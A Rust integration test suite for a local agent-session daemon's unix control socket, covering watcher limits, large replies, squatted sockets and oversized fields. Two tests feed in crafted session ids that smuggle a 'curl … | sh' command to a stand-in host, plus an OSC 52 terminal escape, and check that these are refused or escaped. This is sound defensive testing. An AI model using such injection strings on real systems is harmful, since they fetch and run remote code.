//! The control socket under a hostile or careless local client: hundreds of idle watchers, a
//! watcher that stops reading, replies of several MiB, a socket squatted by someone else,
//! crafted session ids, terminal escapes in session text, and 1 MiB fields. Real daemon, real
//! unix sockets, real child processes, a private world.

#![allow(clippy::unwrap_used, clippy::expect_used)]

mod common;
#[allow(unused_imports)]
use common::RetryStart;

use std::io::{BufRead, BufReader, Read, Write};
use std::path::{Path, PathBuf};
use std::process::Stdio;
use std::time::{Duration, Instant};

use common::{wait_until, World};
use serde_json::{json, Value};

/// Sends one request line on a fresh connection and reads one reply line, whatever its size.
fn ask_raw(socket: &Path, request: &Value) -> String {
    let mut stream = common::connect_raw(socket);
    stream
        .set_read_timeout(Some(Duration::from_secs(20)))
        .unwrap();
    let mut line = serde_json::to_vec(request).unwrap();
    line.push(b'\n');
    stream.write_all(&line).unwrap();
    let mut reply = String::new();
    BufReader::new(&stream).read_line(&mut reply).unwrap();
    reply
}

fn observe_line(session_id: &str, event: &str, extra: Value) -> Vec<u8> {
    let mut observation = json!({
        "session_id": session_id, "agent": "claude", "event": event,
        "at": chrono::Utc::now().to_rfc3339(),
    });
    if let (Some(o), Some(extra)) = (observation.as_object_mut(), extra.as_object()) {
        for (k, v) in extra {
            o.insert(k.clone(), v.clone());
        }
    }
    let mut line =
        serde_json::to_vec(&json!({"v": 1, "op": "observe", "observation": observation})).unwrap();
    line.push(b'\n');
    line
}

/// Sends many requests on one connection, reading every reply; returns the replies.
fn send_all(socket: &Path, lines: &[Vec<u8>]) -> Vec<Value> {
    let mut stream = common::connect_raw(socket);
    stream
        .set_read_timeout(Some(Duration::from_secs(20)))
        .unwrap();
    let mut reader = BufReader::new(stream.try_clone().unwrap());
    let mut replies = Vec::new();
    for line in lines {
        stream.write_all(line).unwrap();
        let mut reply = String::new();
        reader.read_line(&mut reply).unwrap();
        replies.push(serde_json::from_str(&reply).unwrap());
    }
    replies
}

fn find_file(dir: &Path, name: &str) -> Option<PathBuf> {
    for entry in std::fs::read_dir(dir).ok()?.flatten() {
        let path = entry.path();
        if path.is_dir() {
            if let Some(found) = find_file(&path, name) {
                return Some(found);
            }
        } else if path.file_name().is_some_and(|n| n == name) {
            return Some(path);
        }
    }
    None
}

#[cfg(target_os = "linux")]
fn rss_kib(pid: u32) -> u64 {
    let status = std::fs::read_to_string(format!("/proc/{pid}/status")).unwrap();
    status
        .lines()
        .find_map(|l| l.strip_prefix("VmRSS:"))
        .and_then(|v| v.trim().trim_end_matches("kB").trim().parse().ok())
        .unwrap()
}

#[test]
fn list_answers_within_a_second_with_500_idle_watchers_and_the_hook_path_is_free() {
    let world = World::new();
    let daemon = world.start_daemon();
    let socket = world.socket();
    let mut watchers = Vec::new();
    for _ in 0..500 {
        let mut s = common::connect_raw(&socket);
        s.write_all(b"{\"v\":1,\"op\":\"watch\"}\n").unwrap();
        watchers.push(s);
    }
    // Positive control: every one of them is really being served (its snapshot came).
    for (i, s) in watchers.iter().enumerate() {
        s.set_read_timeout(Some(Duration::from_secs(20))).unwrap();
        let mut first = [0u8; 20];
        let n = (&*s)
            .read(&mut first)
            .unwrap_or_else(|e| panic!("watcher {i} got no snapshot: {e}"));
        assert!(
            first[..n].starts_with(b"{\"v\":1,\"ok\":true"),
            "watcher {i}: {:?}",
            String::from_utf8_lossy(&first[..n])
        );
    }
    // Now they sit idle. `list` answers at once.
    let started = Instant::now();
    let reply = ask_raw(&socket, &json!({"v": 1, "op": "list"}));
    let took = started.elapsed();
    eprintln!("list with 500 watchers connected answered in {took:?}");
    assert!(reply.starts_with("{\"v\":1,\"ok\":true"), "{reply}");
    assert!(
        took < Duration::from_secs(1),
        "list took {took:?} with 500 watchers"
    );
    // The hook path: the real hook binary delivers, and the watchers hear of it.
    let mut hook = world
        .command(&["hook", "--agent", "claude"])
        .stdin(Stdio::piped())
        .stdout(Stdio::null())
        .stderr(Stdio::null())
        .spawn_retrying()
        .unwrap();
    let payload = json!({"session_id": "busy-1", "hook_event_name": "SessionStart",
        "cwd": "/tmp", "source": "startup"});
    hook.stdin
        .take()
        .unwrap()
        .write_all(payload.to_string().as_bytes())
        .unwrap();
    let status = wait_until(Duration::from_secs(10), || hook.try_wait().unwrap()).unwrap();
    assert!(status.success());
    assert!(
        wait_until(Duration::from_secs(5), || world.session("busy-1").is_some()).is_some(),
        "the hook's session is listed: {}",
        daemon.log_text()
    );
    // The rest of its snapshot line, then changes until the hook's session is added.
    let mut reader = BufReader::new(&watchers[499]);
    let mut rest = String::new();
    while !rest.contains("busy-1") {
        rest.clear();
        reader.read_line(&mut rest).unwrap();
    }
    assert!(rest.contains("\"added\""), "{rest}");
    // The watcher pool is bounded (512): past it, a plain `busy` at once, never a wait.
    for _ in 500..512 {
        let mut s = common::connect_raw(&socket);
        s.write_all(b"{\"v\":1,\"op\":\"watch\"}\n").unwrap();
        s.set_read_timeout(Some(Duration::from_secs(20))).unwrap();
        let mut first = String::new();
        BufReader::new(&s).read_line(&mut first).unwrap();
        assert!(first.starts_with("{\"v\":1,\"ok\":true"), "{first}");
        watchers.push(s);
    }
    let over = ask_raw(&socket, &json!({"v": 1, "op": "watch"}));
    assert!(over.contains("\"busy\""), "{over}");
    // `doctor`'s check of the app, and the CLI's list, both get through.
    let out = world.run(&["list", "--json"]);
    assert!(
        out.status.success(),
        "{}",
        String::from_utf8_lossy(&out.stderr)
    );
    drop(watchers);
}

#[test]
fn a_watcher_that_does_not_read_is_dropped_with_a_logged_reason() {
    let world = World::new();
    let daemon = world.start_daemon();
    let socket = world.socket();
    let mut lazy = common::connect_raw(&socket);
    lazy.write_all(b"{\"v\":1,\"op\":\"watch\"}\n").unwrap();
    // Changes of about 4 KiB each, far more than the socket buffers hold.
    let cwd = format!("/tmp/{}", "d".repeat(3900));
    let lines: Vec<Vec<u8>> = (0..400)
        .map(|i| {
            let event = if i % 2 == 0 {
                "UserPromptSubmit"
            } else {
                "Stop"
            };
            observe_line("lazy-1", event, json!({"cwd": cwd}))
        })
        .collect();
    let replies = send_all(&socket, &lines);
    assert!(replies.iter().all(|r| r["ok"] == true));
    let logged = wait_until(Duration::from_secs(30), || {
        daemon.log_text().contains("not reading")
    });
    assert!(
        logged.is_some(),
        "the drop is logged with its reason: {}",
        daemon.log_text()
    );
    // And the connection really is closed: draining it reaches the end.
    lazy.set_read_timeout(Some(Duration::from_secs(10)))
        .unwrap();
    let mut sink = Vec::new();
    lazy.read_to_end(&mut sink)
        .expect("the engine closed the stream");
    assert!(!sink.is_empty(), "it had been sent what fit");
}

#[test]
fn history_of_1500_realistic_ended_sessions_is_printed_whole() {
    let world = World::new();
    let _daemon = world.start_daemon();
    let socket = world.socket();
    let mut lines = Vec::new();
    for i in 0..1500 {
        let id = format!("{:08x}-95b9-4336-8b7d-2d91c4d8{:04x}", i * 7919, i);
        let cwd = format!("/home/dev/projects/customer-portal-service-{i}");
        let extra = json!({
            "cwd": cwd,
            "repo": format!("customer-portal-service-{i}"),
            "branch": "feature/retry-payment-webhooks",
            "model": "claude-sonnet-4-5-20250929",
            "transcript_path": format!(
                "/home/dev/.claude/projects/-home-dev-projects-customer-portal-service-{i}/{id}.jsonl"
            ),
            "title": "Refactor the payment retry logic and add tests for the webhook handler",
            "tmux": "work:@3.%17",
            "tty": "/dev/pts/7",
            "tool_name": "Bash",
        });
        lines.push(observe_line(&id, "SessionStart", extra.clone()));
        lines.push(observe_line(&id, "SessionEnd", extra));
    }
    let replies = send_all(&socket, &lines);
    assert!(replies.iter().all(|r| r["ok"] == true), "{:?}", replies[0]);
    // Ended sessions move to history after 10 s.
    let raw = wait_until(Duration::from_secs(60), || {
        let reply = ask_raw(&socket, &json!({"v": 1, "op": "history", "limit": 2000}));
        let v: Value = serde_json::from_str(&reply).unwrap();
        (v["result"]["sessions"].as_array().map_or(0, Vec::len) == 1500).then_some(reply)
    })
    .expect("1500 sessions reach history");
    assert!(
        raw.len() > 1 << 20,
        "the reply is over 1 MiB: {}",
        raw.len()
    );
    eprintln!("history reply for 1500 sessions: {} bytes", raw.len());
    let out = world.run(&["history", "--limit", "2000", "--json"]);
    assert!(
        out.status.success(),
        "{}",
        String::from_utf8_lossy(&out.stderr)
            .chars()
            .take(500)
            .collect::<String>()
    );
    let printed: Vec<Value> = serde_json::from_slice(&out.stdout).unwrap();
    assert_eq!(printed.len(), 1500);
    let table = world.run(&["history", "--limit", "2000"]);
    assert!(table.status.success());
    assert_eq!(String::from_utf8_lossy(&table.stdout).lines().count(), 1501);
}

/// A socket bound by the test itself in the world's run folder: who connects to it?
#[cfg(unix)]
fn squat(world: &World) -> (std::os::unix::net::UnixListener, PathBuf) {
    use std::os::unix::net::UnixListener;
    let run = world.tray_home().join("run");
    std::fs::create_dir_all(&run).unwrap();
    let socket = world.socket();
    let listener = UnixListener::bind(&socket).unwrap();
    listener.set_nonblocking(true).unwrap();
    (listener, run)
}

fn run_hook(world: &World, payload: &Value) {
    let mut hook = world
        .command(&["hook", "--agent", "claude"])
        .stdin(Stdio::piped())
        .stdout(Stdio::null())
        .stderr(Stdio::null())
        .spawn_retrying()
        .unwrap();
    hook.stdin
        .take()
        .unwrap()
        .write_all(payload.to_string().as_bytes())
        .unwrap();
    let status = wait_until(Duration::from_secs(10), || hook.try_wait().unwrap());
    assert!(status.is_some_and(|s| s.success()));
}

#[cfg(unix)] // a unix socket planted by another user, and its folder's modes
#[test]
fn a_socket_others_could_have_put_there_is_refused_by_the_cli_and_the_hook() {
    use std::os::unix::fs::PermissionsExt;
    let world = World::new();
    let (listener, run) = squat(&world);
    let socket = world.socket();
    let accepted = || match listener.accept() {
        Ok(_) => true,
        Err(e) if e.kind() == std::io::ErrorKind::WouldBlock => false,
        Err(e) => panic!("{e}"),
    };

    // A folder anyone may write to: anyone could have put the socket there.
    std::fs::set_permissions(&run, std::fs::Permissions::from_mode(0o777)).unwrap();
    std::fs::set_permissions(&socket, std::fs::Permissions::from_mode(0o600)).unwrap();
    let out = world.run(&["list"]);
    assert!(!out.status.success());
    let err = String::from_utf8_lossy(&out.stderr);
    assert!(
        err.contains("refusing to use the socket") && err.contains("writable by others"),
        "{err}"
    );
    run_hook(
        &world,
        &json!({"session_id": "sq-1", "hook_event_name": "SessionStart", "cwd": "/tmp"}),
    );
    assert!(!accepted(), "nothing was sent to the squatter");
    let log = find_file(&world.tray_home(), "hook.log").expect("the hook logged why");
    let log = std::fs::read_to_string(log).unwrap();
    assert!(log.contains("writable by others"), "{log}");

    // A private folder, but a socket anyone may write to.
    std::fs::set_permissions(&run, std::fs::Permissions::from_mode(0o700)).unwrap();
    std::fs::set_permissions(&socket, std::fs::Permissions::from_mode(0o666)).unwrap();
    let out = world.run(&["list"]);
    assert!(!out.status.success());
    assert!(String::from_utf8_lossy(&out.stderr).contains("writable by others"));
    assert!(!accepted());

    // Someone else's socket (the test runs as root in CI containers; chown needs it).
    // SAFETY: geteuid has no failure mode.
    if unsafe { libc::geteuid() } == 0 {
        std::fs::set_permissions(&socket, std::fs::Permissions::from_mode(0o600)).unwrap();
        std::os::unix::fs::chown(&socket, Some(4242), Some(4242)).unwrap();
        let out = world.run(&["list"]);
        assert!(!out.status.success());
        let err = String::from_utf8_lossy(&out.stderr);
        assert!(err.contains("belongs to uid 4242"), "{err}");
        assert!(!accepted());
        std::os::unix::fs::chown(&socket, Some(0), Some(0)).unwrap();
    }

    // Positive control: the same socket, private and ours, is used.
    std::fs::set_permissions(&socket, std::fs::Permissions::from_mode(0o600)).unwrap();
    let mut cli = world
        .command(&["list", "--json"])
        .stdin(Stdio::null())
        .stdout(Stdio::piped())
        .stderr(Stdio::null())
        .spawn_retrying()
        .unwrap();
    let conn = wait_until(Duration::from_secs(10), || match listener.accept() {
        Ok((conn, _)) => Some(conn),
        Err(_) => None,
    })
    .expect("the CLI connects to a private socket of ours");
    conn.set_nonblocking(false).unwrap();
    let mut request = String::new();
    BufReader::new(&conn).read_line(&mut request).unwrap();
    assert!(request.contains("\"list\""), "{request}");
    (&conn)
        .write_all(b"{\"v\":1,\"ok\":true,\"result\":{\"sessions\":[]}}\n")
        .unwrap();
    let status = wait_until(Duration::from_secs(10), || cli.try_wait().unwrap()).unwrap();
    assert!(status.success());
}

#[test]
fn crafted_session_ids_are_refused_at_the_socket_the_cli_and_the_hook() {
    let world = World::new();
    let _daemon = world.start_daemon();
    let socket = world.socket();
    let evil = "x; curl https://evil.example/p|sh #";

    let out = world.run(&["observe", "--session", evil, "--event", "SessionStart"]);
    assert!(!out.status.success());
    let err = String::from_utf8_lossy(&out.stderr);
    assert!(err.contains("ASCII letters, digits"), "{err}");

    let reply: Value = serde_json::from_str(&ask_raw(
        &socket,
        &serde_json::from_slice::<Value>(&observe_line(evil, "SessionStart", json!({}))).unwrap(),
    ))
    .unwrap();
    assert_eq!(reply["ok"], false);
    assert_eq!(reply["error"]["code"], "invalid_observation");
    assert!(
        reply["error"]["message"]
            .as_str()
            .unwrap()
            .contains("ASCII letters, digits"),
        "{reply}"
    );

    run_hook(
        &world,
        &json!({"session_id": evil, "hook_event_name": "SessionStart", "cwd": "/tmp"}),
    );
    // Positive control: a valid id through the same hook is listed.
    run_hook(
        &world,
        &json!({"session_id": "good-1", "hook_event_name": "SessionStart", "cwd": "/tmp"}),
    );
    assert!(wait_until(Duration::from_secs(5), || world.session("good-1").is_some()).is_some());
    let ids: Vec<Value> = world
        .list()
        .iter()
        .map(|s| s["session_id"].clone())
        .collect();
    assert_eq!(ids, [json!("good-1")]);
    let log = find_file(&world.tray_home(), "hook.log").expect("the hook logged the refusal");
    let log = std::fs::read_to_string(log).unwrap();
    assert!(
        log.contains("refused") && log.contains("session_id"),
        "{log}"
    );
}

#[test]
fn terminal_escapes_in_session_text_are_escaped_for_people_and_exact_in_json() {
    let world = World::new();
    let _daemon = world.start_daemon();
    let socket = world.socket();
    let watch_out = world.path().join("watch.out");
    let mut watch = world
        .command(&["watch"])
        .stdin(Stdio::null())
        .stdout(std::fs::File::create(&watch_out).unwrap())
        .stderr(Stdio::null())
        .spawn_retrying()
        .unwrap();
    // Wait until the watcher has its snapshot (the empty-table line).
    assert!(wait_until(Duration::from_secs(10), || {
        std::fs::read_to_string(&watch_out).is_ok_and(|t| !t.is_empty())
    })
    .is_some());
    let osc = "evil\u{1b}]52;c;aGVsbG8=\u{7}";
    let cwd = format!("/tmp/{osc}");
    // An id carrying the same escape (refused), and a session whose folder carries it.
    let replies = send_all(
        &socket,
        &[
            observe_line(&format!("id{osc}"), "SessionStart", json!({})),
            observe_line("osc-1", "SessionStart", json!({"cwd": cwd})),
        ],
    );
    assert_eq!(replies[0]["ok"], false);
    assert_eq!(replies[1]["ok"], true);
    let shown = wait_until(Duration::from_secs(10), || {
        std::fs::read(&watch_out)
            .ok()
            .filter(|t| String::from_utf8_lossy(t).contains("osc-1"))
    })
    .expect("watch shows the session");
    #[cfg(unix)]
    common::signal(watch.id(), libc::SIGTERM);
    #[cfg(unix)]
    let _ = wait_until(Duration::from_secs(5), || watch.try_wait().unwrap());
    let _ = watch.kill();
    let _ = watch.wait();
    assert!(
        !shown.contains(&0x1b) && !shown.contains(&0x07),
        "{:?}",
        String::from_utf8_lossy(&shown)
    );

    let table = world.run(&["list"]);
    assert!(table.status.success());
    assert!(
        !table.stdout.contains(&0x1b) && !table.stdout.contains(&0x07),
        "{:?}",
        String::from_utf8_lossy(&table.stdout)
    );
    let text = String::from_utf8_lossy(&table.stdout);
    assert!(text.contains("evil\\u{1b}]52;c;aGVsbG8=\\u{7}"), "{text}");
    // JSON stays exact.
    assert_eq!(world.session("osc-1").unwrap()["cwd"], json!(cwd));
}

#[cfg(target_os = "linux")] // the engine's memory is read from /proc
#[test]
fn sixteen_one_mib_requests_leave_no_big_fields_and_little_memory_behind() {
    let world = World::new();
    let daemon = world.start_daemon();
    let socket = world.socket();
    // Warm up the paths a request takes, then measure.
    send_all(
        &socket,
        &[observe_line(
            "warm-1",
            "SessionStart",
            json!({"cwd": "/tmp"}),
        )],
    );
    let _ = world.list();
    let before = rss_kib(daemon.pid());
    let lines: Vec<Vec<u8>> = (0..16)
        .map(|i| {
            // Just under the 1 MiB line limit: a cwd and a title that big.
            let big = "c".repeat((1 << 20) / 2 - 400);
            observe_line(
                &format!("big-{i}"),
                "SessionStart",
                json!({"cwd": format!("/{big}"), "title": big}),
            )
        })
        .collect();
    assert!(lines
        .iter()
        .all(|l| l.len() < 1 << 20 && l.len() > 1_040_000));
    let replies = send_all(&socket, &lines);
    assert!(replies.iter().all(|r| r["ok"] == true), "{:?}", replies[0]);
    let after = rss_kib(daemon.pid());
    let grew = after.saturating_sub(before);
    eprintln!(
        "daemon RSS: {before} KiB before, {after} KiB after 16 one-MiB requests (+{grew} KiB)"
    );
    assert!(grew < 8 * 1024, "RSS grew by {grew} KiB");
    let sessions = world.list();
    assert_eq!(sessions.len(), 17);
    for s in sessions.iter().filter(|s| s["session_id"] != "warm-1") {
        let cwd = s["cwd"].as_str().unwrap();
        assert!(
            cwd.len() <= 4096 && cwd.ends_with("…[cut]"),
            "{}",
            cwd.len()
        );
        let title = s["title"].as_str().unwrap();
        assert!(title.len() <= 1024 && title.ends_with("…[cut]"));
    }
}

/// Every feed (agent files, journal replay, pid watcher) hands its observations to the registry,
/// so the registry's own gate is what stops a crafted id that came from a file name.
#[test]
fn the_registry_refuses_crafted_ids_and_cuts_big_fields_whatever_the_feed() {
    use agent_tray::model::{Agent, EventKind, Observation, Source};
    use agent_tray::registry::SessionsRegistry;
    let registry = SessionsRegistry::new();
    let at = chrono::Utc::now();
    for source in [
        Source::Transcript,
        Source::Rollout,
        Source::SessionsFile,
        Source::Hook,
    ] {
        let crafted = Observation::new(
            "x; curl https://e.example|sh #",
            Agent::Claude,
            EventKind::SessionStart,
            at,
        )
        .with_source(source);
        assert!(registry.observe(crafted).is_err(), "{source:?}");
    }
    let big = Observation::new("from-a-file", Agent::Codex, EventKind::SessionStart, at)
        .with_source(Source::Rollout)
        .with_cwd(Some(format!("/{}", "p".repeat(100_000))));
    assert!(registry.observe(big).is_ok());
    let listed = registry.list();
    assert_eq!(listed.len(), 1, "only the valid one is there");
    let cwd = listed[0].cwd.as_deref().unwrap();
    assert!(
        cwd.len() <= 4096 && cwd.ends_with("…[cut]"),
        "{}",
        cwd.len()
    );
}
